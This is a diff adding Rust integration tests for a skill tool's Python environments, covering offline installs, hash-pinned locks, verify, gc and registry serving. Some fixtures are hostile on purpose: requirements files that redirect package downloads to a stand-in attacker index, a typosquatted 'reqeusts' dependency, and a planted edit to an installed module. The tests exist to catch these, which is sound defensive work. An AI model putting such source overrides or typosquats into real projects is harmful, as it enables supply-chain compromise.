@@ -1,0 +1,660 @@
+//! Skill environments (issue 31 items 3-4), end to end through the binary:
+//! a skill whose script imports a third-party package (python-dateutil,
+//! which needs six) is installed from a local wheel folder with uv, offline;
+//! the lock pins every package by the sha256 of its wheel; the script runs in
+//! the sandbox with the environment mounted read-only; two skills with the
+//! same requirements share one environment; a missing environment is a
+//! clear error and its skill's tools are not offered; `install --frozen
+//! --offline` builds it again; `verify` finds a changed file; `env gc`
+//! removes what no lock records.
+//!
+//! uv and the wheels: `SKILLDECK_TEST_UV` names the uv binary,
+//! `SKILLDECK_TEST_WHEELS` a folder with the python-dateutil and six wheels
+//! (scripts/test-environments.sh prepares both). Without them the tests
+//! that build say so and pass, unless `SKILLDECK_TEST_REQUIRE_UV=1`, which
+//! makes them fail. The refusals that need no uv always run.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use serde_json::{Value, json};
+use skilldeck_testkit::mcp::StdioClient;
+
+/// The skill's script: imports the package, prints what it parsed and where
+/// the package was imported from.
+const SCRIPT: &str = "import sys, dateutil\nfrom dateutil import parser\n\
+                      print(parser.parse('27 Nov 2026 10:00').isoformat())\n\
+                      print(dateutil.__file__)\n";
+
+/// uv and the wheel folder, when the environment provides them; with
+/// `SKILLDECK_TEST_REQUIRE_UV=1`, a failure when it does not.
+fn uv_and_wheels() -> Option<(PathBuf, PathBuf)> {
+    let uv = std::env::var_os("SKILLDECK_TEST_UV").map(PathBuf::from);
+    let wheels = std::env::var_os("SKILLDECK_TEST_WHEELS").map(PathBuf::from);
+    if std::env::var_os("SKILLDECK_TEST_REQUIRE_UV").is_some_and(|v| v == "1") {
+        let uv = uv.as_ref().expect(
+            "SKILLDECK_TEST_REQUIRE_UV=1 but SKILLDECK_TEST_UV is not set (run \
+             scripts/test-environments.sh)",
+        );
+        assert!(uv.is_file(), "{} is not a file", uv.display());
+        let wheels = wheels.as_ref().expect("SKILLDECK_TEST_WHEELS is not set");
+        assert!(wheels.is_dir(), "{} is not a folder", wheels.display());
+    }
+    match (uv, wheels) {
+        (Some(u), Some(w)) => Some((u, w)),
+        _ => {
+            eprintln!(
+                "SKILLDECK_TEST_UV / SKILLDECK_TEST_WHEELS not set: the environment build tests \
+                 did not run (scripts/test-environments.sh runs them)"
+            );
+            None
+        }
+    }
+}
+
+/// A project: `src/NAME/` skills with `requirements`, the script and a
+/// tool; the environment store and uv's cache inside it. Every folder is
+/// traversable by the sandbox's user (a root caller's scripts run as it).
+struct Project {
+    dir: tempfile::TempDir,
+    uv: Option<PathBuf>,
+}
+
+impl Project {
+    fn new(uv: Option<&Path>) -> Project {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+        std::fs::write(
+            dir.path().join("skilldeck.toml"),
+            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n",
+        )
+        .unwrap();
+        Project {
+            dir,
+            uv: uv.map(Path::to_path_buf),
+        }
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    fn store(&self) -> PathBuf {
+        self.path().join("store")
+    }
+
+    fn skill(&self, name: &str, requirements: &str) -> PathBuf {
+        let dir = self.path().join("src").join(name);
+        std::fs::create_dir_all(dir.join("scripts")).unwrap();
+        std::fs::write(
+            dir.join("SKILL.md"),
+            format!(
+                "---\nname: {name}\ndescription: Parse dates with python-dateutil. Use when a \
+                 date needs parsing.\ntools:\n  - name: when\n    description: Parse a date.\n    \
+                 input_schema: {{type: object, properties: {{}}}}\n    run: scripts/when.py\n---\n\
+                 # {name}\n"
+            ),
+        )
+        .unwrap();
+        std::fs::write(dir.join("requirements.txt"), requirements).unwrap();
+        std::fs::write(dir.join("scripts/when.py"), SCRIPT).unwrap();
+        dir
+    }
+
+    fn command(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_skilldeck"));
+        c.args(args)
+            .current_dir(self.path())
+            .env("HOME", self.path().join("home"))
+            .env("NO_COLOR", "1")
+            .env("XDG_CONFIG_HOME", self.path().join("xdg"))
+            .env("XDG_CACHE_HOME", self.path().join("cache"))
+            .env("SKILLDECK_ENVS_DIR", self.store())
+            // An empty cache: the packages can only come from the wheels.
+            .env("UV_CACHE_DIR", self.path().join("uv-cache"))
+            .env_remove("SKILLDECK_UV")
+            .stdin(Stdio::null());
+        if let Some(uv) = &self.uv {
+            c.env("SKILLDECK_UV", uv);
+        }
+        c
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        self.command(args).output().unwrap()
+    }
+
+    /// The environments in the store.
+    fn environments(&self) -> Vec<String> {
+        let mut out: Vec<String> = std::fs::read_dir(self.store())
+            .map(|entries| {
+                entries
+                    .flatten()
+                    .map(|e| e.file_name().to_string_lossy().into_owned())
+                    .filter(|n| !n.starts_with('.'))
+                    .collect()
+            })
+            .unwrap_or_default();
+        out.sort();
+        out
+    }
+
+    fn lock(&self) -> String {
+        std::fs::read_to_string(self.path().join(".agents/skilldeck.lock")).unwrap()
+    }
+}
+
+fn ok(out: &Output) -> String {
+    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        out.status.success(),
+        "exit {:?}\nstdout: {stdout}\nstderr: {}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    stdout
+}
+
+fn failed(out: &Output) -> String {
+    assert!(
+        !out.status.success(),
+        "expected a failure; stdout: {}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+fn install_offline(p: &Project, wheels: &Path, sources: &[&str]) -> Output {
+    let mut args = vec!["install"];
+    args.extend_from_slice(sources);
+    args.extend_from_slice(&["--offline", "--find-links", wheels.to_str().unwrap()]);
+    p.run(&args)
+}
+
+/// sha256 of each wheel in the folder (`sha256:HEX`).
+fn wheel_hashes(wheels: &Path) -> Vec<String> {
+    std::fs::read_dir(wheels)
+        .unwrap()
+        .flatten()
+        .filter(|e| e.file_name().to_string_lossy().ends_with(".whl"))
+        .map(|e| skilldeck::Digest::of(&std::fs::read(e.path()).unwrap()).to_string())
+        .collect()
+}
+
+fn tools(p: &Project) -> Vec<String> {
+    let mut command = p.command(&["serve", "--no-watch", "--root", ".agents/skills"]);
+    command.stdin(Stdio::piped());
+    let mut client = StdioClient::start(command);
+    let answer = client.request("tools/list", json!({}));
+    answer["result"]["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t["name"].as_str().map(str::to_owned))
+        .collect::<Vec<_>>()
+        .into_iter()
+        .filter(|n: &String| n.contains("__"))
+        .collect()
+}
+
+#[test]
+fn a_skill_that_imports_a_package_runs_after_install_and_the_lock_pins_it_by_hash() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    let out = ok(&install_offline(&p, &wheels, &["src/dates"]));
+    assert!(
+        out.contains("environment built: python-dateutil=="),
+        "{out}"
+    );
+    let lock = p.lock();
+    assert!(lock.contains("[skill.dates.environment]"), "{lock}");
+    for hash in wheel_hashes(&wheels) {
+        assert!(lock.contains(&hash), "{hash} not in the lock:\n{lock}");
+    }
+    assert!(lock.contains("name = \"six\""), "{lock}");
+    let ran = ok(&p.run(&[
+        "run",
+        "dates",
+        "scripts/when.py",
+        "--root",
+        ".agents/skills",
+    ]));
+    let mut lines = ran.lines();
+    assert_eq!(lines.next(), Some("2026-11-27T10:00:00"));
+    let imported = lines.next().unwrap();
+    assert!(
+        imported.starts_with(p.store().to_str().unwrap()),
+        "imported from {imported}, not the store"
+    );
+    // The tool is offered and runs over MCP.
+    let listed = tools(&p);
+    assert_eq!(listed, ["dates__when"]);
+    let shown = ok(&p.run(&["show", "dates", "--root", ".agents/skills"]));
+    assert!(
+        shown.contains("| environment | ready: python-dateutil=="),
+        "{shown}"
+    );
+}
+
+#[test]
+fn two_skills_with_the_same_requirements_share_one_environment() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    p.skill("more-dates", "python-dateutil>=2.8\n");
+    let out = ok(&install_offline(
+        &p,
+        &wheels,
+        &["src/dates", "src/more-dates"],
+    ));
+    assert!(out.contains("environment built"), "{out}");
+    assert!(out.contains("environment shared"), "{out}");
+    assert_eq!(p.environments().len(), 1, "{:?}", p.environments());
+    for skill in ["dates", "more-dates"] {
+        ok(&p.run(&["run", skill, "scripts/when.py", "--root", ".agents/skills"]));
+    }
+}
+
+#[test]
+fn a_missing_environment_is_a_clear_error_and_install_frozen_offline_builds_it_again() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    ok(&install_offline(&p, &wheels, &["src/dates"]));
+    for env in p.environments() {
+        std::fs::remove_dir_all(p.store().join(env)).unwrap();
+    }
+    let err = failed(&p.run(&[
+        "run",
+        "dates",
+        "scripts/when.py",
+        "--root",
+        ".agents/skills",
+    ]));
+    assert!(err.contains("environment-missing"), "{err}");
+    assert!(err.contains("python-dateutil=="), "{err}");
+    assert!(err.contains("skilldeck install --frozen"), "{err}");
+    assert_eq!(
+        tools(&p),
+        Vec::<String>::new(),
+        "a skill without its environment offers no tool"
+    );
+    let shown = ok(&p.run(&["show", "dates", "--root", ".agents/skills"]));
+    assert!(
+        shown.contains("| environment | environment-missing"),
+        "{shown}"
+    );
+    let doctor = ok(&p.run(&["doctor", "--root", ".agents/skills"]));
+    assert!(doctor.contains("skill environments not ready"), "{doctor}");
+    assert!(doctor.contains("error[environment-missing]"), "{doctor}");
+    let lock_before = p.lock();
+    let out = ok(&p.run(&[
+        "install",
+        "--frozen",
+        "--offline",
+        "--find-links",
+        wheels.to_str().unwrap(),
+    ]));
+    assert!(out.contains("environment built"), "{out}");
+    assert_eq!(
+        p.lock(),
+        lock_before,
+        "a frozen install never changes the lock"
+    );
+    ok(&p.run(&[
+        "run",
+        "dates",
+        "scripts/when.py",
+        "--root",
+        ".agents/skills",
+    ]));
+}
+
+#[test]
+fn a_requirement_not_in_the_wheel_folder_fails_the_install_naming_it_and_installs_nothing() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    p.skill("broken", "# needs\nno-such-package-skilldeck==1.0\n");
+    let err = failed(&install_offline(&p, &wheels, &["src/dates", "src/broken"]));
+    assert!(err.contains("environment-build-failed"), "{err}");
+    assert!(err.contains("no-such-package-skilldeck==1.0"), "{err}");
+    assert!(err.contains("requirements.txt:2"), "{err}");
+    assert!(
+        !p.path().join(".agents/skills/dates").exists(),
+        "nothing was installed"
+    );
+    assert!(!p.path().join(".agents/skilldeck.lock").exists());
+}
+
+#[test]
+fn verify_finds_a_changed_file_in_an_environment_and_install_frozen_repairs_it() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    ok(&install_offline(&p, &wheels, &["src/dates"]));
+    let out = ok(&p.run(&["verify"]));
+    assert!(out.contains("ok         dates environment"), "{out}");
+    let env = p.store().join(&p.environments()[0]);
+    let six = std::fs::read_dir(env.join("lib"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.path().join("site-packages/six.py"))
+        .find(|p| p.is_file())
+        .unwrap();
+    let mut text = std::fs::read_to_string(&six).unwrap();
+    text.push_str("\nprint('planted')\n");
+    std::fs::write(&six, text).unwrap();
+    let err = failed(&p.run(&["verify"]));
+    assert!(
+        err.contains("environment-modified dates environment"),
+        "{err}"
+    );
+    assert!(err.contains("six.py"), "{err}");
+    ok(&p.run(&[
+        "install",
+        "--frozen",
+        "--offline",
+        "--find-links",
+        wheels.to_str().unwrap(),
+    ]));
+    ok(&p.run(&["verify"]));
+}
+
+#[test]
+fn env_gc_removes_the_environments_no_lock_records() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    p.skill("sixes", "six\n");
+    ok(&install_offline(&p, &wheels, &["src/dates", "src/sixes"]));
+    assert_eq!(p.environments().len(), 2);
+    let out = ok(&p.run(&["env", "gc"]));
+    assert!(out.contains("2 environments kept"), "{out}");
+    ok(&p.run(&["remove", "sixes"]));
+    let dry = ok(&p.run(&["env", "gc", "--dry-run"]));
+    assert!(dry.contains("would remove"), "{dry}");
+    assert_eq!(p.environments().len(), 2);
+    let out = ok(&p.run(&["env", "gc"]));
+    assert!(out.contains("1 environment kept"), "{out}");
+    assert_eq!(p.environments().len(), 1);
+    ok(&p.run(&[
+        "run",
+        "dates",
+        "scripts/when.py",
+        "--root",
+        ".agents/skills",
+    ]));
+}
+
+#[test]
+fn a_skill_cannot_choose_its_index_and_nothing_is_installed() {
+    let p = Project::new(None);
+    p.skill(
+        "sneaky",
+        "--extra-index-url https://attacker.example/simple\npython-dateutil\n",
+    );
+    let err = failed(&p.run(&["install", "src/sneaky"]));
+    assert!(err.contains("environment-requirement-invalid"), "{err}");
+    assert!(err.contains("requirements.txt:1"), "{err}");
+    assert!(!p.path().join(".agents/skills/sneaky").exists());
+}
+
+#[test]
+fn without_uv_an_install_of_a_skill_with_dependencies_is_refused_saying_how_to_get_it() {
+    let p = Project::new(Some(Path::new("/nonexistent/uv")));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    let err = failed(&p.run(&["install", "src/dates"]));
+    assert!(err.contains("environment-build-failed"), "{err}");
+    assert!(err.contains("/nonexistent/uv"), "{err}");
+    assert!(!p.path().join(".agents/skills/dates").exists());
+}
+
+#[test]
+fn installed_without_environments_a_skill_with_dependencies_does_not_run_and_says_why() {
+    let p = Project::new(None);
+    p.skill("dates", "python-dateutil>=2.8\n");
+    ok(&p.run(&["install", "src/dates", "--no-environments"]));
+    let err = failed(&p.run(&[
+        "run",
+        "dates",
+        "scripts/when.py",
+        "--root",
+        ".agents/skills",
+    ]));
+    assert!(err.contains("environment-missing"), "{err}");
+    assert!(err.contains("python-dateutil>=2.8"), "{err}");
+    assert!(err.contains("requirements.txt:1"), "{err}");
+    let call = failed(&p.run(&[
+        "call",
+        "dates",
+        "when",
+        "--args",
+        "{}",
+        "--root",
+        ".agents/skills",
+    ]));
+    assert!(call.contains("environment-missing"), "{call}");
+    assert_eq!(tools(&p), Vec::<String>::new());
+    let verify = failed(&p.run(&["verify"]));
+    assert!(
+        verify.contains("environment-missing dates environment"),
+        "{verify}"
+    );
+}
+
+/// The JSON of `verify` carries each environment's check (for scripts).
+#[test]
+fn verify_json_lists_environment_checks() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    ok(&install_offline(&p, &wheels, &["src/dates"]));
+    let out = ok(&p.run(&["verify", "--format", "json"]));
+    let v: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["environments"][0]["skill"], "dates");
+    assert_eq!(v["environments"][0]["status"], "ok");
+}
+
+#[test]
+fn the_audit_finds_a_typosquatted_dependency_and_a_source_override() {
+    let p = Project::new(None);
+    let dir = p.skill(
+        "squat",
+        "reqeusts==2.31.0\n--extra-index-url https://attacker.example/simple\n",
+    );
+    let out = p.run(&["audit", dir.to_str().unwrap()]);
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(text.contains("deps.shadows-well-known"), "{text}");
+    assert!(text.contains("requests"), "{text}");
+    assert!(text.contains("deps.source-override"), "{text}");
+}
+
+/// `skilldeck ARGS` against the registry `server` as its admin.
+fn admin(
+    p: &Project,
+    server: &skilldeck_testkit::registry::RegistryProcess,
+    args: &[&str],
+) -> String {
+    let mut all = args.to_vec();
+    all.extend([
+        "--registry",
+        server.url.as_str(),
+        "--token-file",
+        server.admin_file.to_str().unwrap(),
+    ]);
+    ok(&p.run(&all))
+}
+
+#[test]
+fn serve_registry_builds_the_environments_of_the_agents_skills_and_leaves_out_one_that_cannot_be_built()
+ {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    std::fs::write(
+        p.path().join("skilldeck.toml"),
+        format!(
+            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n\n\
+             [environments]\noffline = true\nfind-links = [{:?}]\n",
+            wheels.to_str().unwrap()
+        ),
+    )
+    .unwrap();
+    let server = skilldeck_testkit::registry::RegistryProcess::start(
+        env!("CARGO_BIN_EXE_skilldeck"),
+        &p.path().join("data"),
+        &[],
+    );
+    for (name, requirements) in [
+        ("dates", "python-dateutil>=2.8\n"),
+        ("broken", "no-such-package-skilldeck==1.0\n"),
+    ] {
+        let dir = p.skill(name, requirements);
+        admin(
+            &p,
+            &server,
+            &[
+                "publish",
+                dir.to_str().unwrap(),
+                "--namespace",
+                "acme",
+                "--version",
+                "1.0.0",
+            ],
+        );
+    }
+    admin(&p, &server, &["registry", "agent", "create", "bot-1"]);
+    for name in ["acme/dates", "acme/broken"] {
+        admin(&p, &server, &["registry", "assign", "bot-1", name]);
+    }
+    let token = admin(
+        &p,
+        &server,
+        &["registry", "token", "create", "--agent", "bot-1"],
+    );
+    let token_file = p.path().join("bot-token");
+    std::fs::write(&token_file, token.trim()).unwrap();
+    let mut command = p.command(&[
+        "serve",
+        "--registry",
+        &server.url,
+        "--agent",
+        "bot-1",
+        "--token-file",
+        token_file.to_str().unwrap(),
+    ]);
+    command
+        .env("RUST_LOG", "info")
+        .env_remove("SKILLDECK_TOKEN");
+    let mut client = StdioClient::start(command);
+    let answer = client.request("tools/list", json!({}));
+    let names: Vec<&str> = answer["result"]["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t["name"].as_str())
+        .filter(|n| n.contains("__"))
+        .collect();
+    assert_eq!(names, ["dates__when"], "{answer}");
+    let called = client.call("dates__when", json!({}));
+    let text = skilldeck_testkit::mcp::text(&called);
+    assert!(text.contains("2026-11-27T10:00:00"), "{called}");
+    let log = client.wait_for_stderr(&["no-such-package-skilldeck==1.0"]);
+    assert!(log.contains("cannot be built"), "{log}");
+}
+
+#[test]
+fn an_interpreter_that_is_not_the_locked_version_fails_verify_and_a_frozen_install() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    p.skill("dates", "python-dateutil>=2.8\n");
+    ok(&install_offline(&p, &wheels, &["src/dates"]));
+    // As if the lock had been made where /usr/bin/python3 was another
+    // version (or the system's Python was upgraded since).
+    let lockfile = p.path().join(".agents/skilldeck.lock");
+    let lock = p.lock();
+    let found = lock
+        .lines()
+        .find_map(|l| l.strip_prefix("python = \""))
+        .and_then(|v| v.strip_suffix('"'))
+        .unwrap()
+        .to_owned();
+    std::fs::write(
+        &lockfile,
+        lock.replace(&format!("python = \"{found}\""), "python = \"3.0.1\""),
+    )
+    .unwrap();
+    let err = failed(&p.run(&["verify"]));
+    assert!(
+        err.contains("environment-modified dates environment"),
+        "{err}"
+    );
+    assert!(err.contains("built for Python 3.0.1"), "{err}");
+    let err = failed(&p.run(&[
+        "install",
+        "--frozen",
+        "--offline",
+        "--find-links",
+        wheels.to_str().unwrap(),
+    ]));
+    assert!(err.contains(&format!("now Python {found}")), "{err}");
+}
+
+#[test]
+fn a_dynamic_context_directive_runs_with_the_skills_environment() {
+    let Some((uv, wheels)) = uv_and_wheels() else {
+        return;
+    };
+    let p = Project::new(Some(&uv));
+    let dir = p.skill("dates", "python-dateutil>=2.8\n");
+    let skill_md = std::fs::read_to_string(dir.join("SKILL.md")).unwrap();
+    std::fs::write(
+        dir.join("SKILL.md"),
+        format!(
+            "{skill_md}\nVersion: !`python3 -c 'import dateutil; print(\"dateutil-\" + dateutil.__version__)'`\n"
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        p.path().join("skilldeck.toml"),
+        "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\ndynamic-context = true\n",
+    )
+    .unwrap();
+    ok(&install_offline(&p, &wheels, &["src/dates"]));
+    let mut command = p.command(&["serve", "--no-watch", "--root", ".agents/skills"]);
+    command.stdin(Stdio::piped());
+    let mut client = StdioClient::start(command);
+    let activated = client.call("activate_skill", json!({"name": "dates"}));
+    let text = skilldeck_testkit::mcp::text(&activated);
+    assert!(text.contains("Version: dateutil-2.9.0.post0"), "{text}");
+}
